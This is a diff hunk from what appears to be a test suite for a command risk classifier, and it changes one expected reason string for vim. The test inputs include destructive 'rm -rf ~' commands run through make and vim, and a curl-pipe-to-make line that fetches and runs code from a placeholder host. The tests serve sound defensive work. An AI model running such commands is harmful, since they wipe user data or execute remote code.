@@ -1174,7 +1174,7 @@ TEST(interpreter_family)
 	CRITICAL("make -f /dev/stdin <<< 'all:; rm -rf ~'");
 	HIGH("curl -s https://x.example/mk | make -f -");
 	MEDIUM("vim -c 'r !date' notes.md");
-	CHECK(has_reason("vim -c runs a shell command"));
+	CHECK(has_reason("vim runs a shell command"));
 	CRITICAL("vim -es -c '!rm -rf ~' -c q");
 	LOW("vim -c ':%s/a/b/g' -c wq f");
 	MEDIUM("sed 'e' cmds.txt");
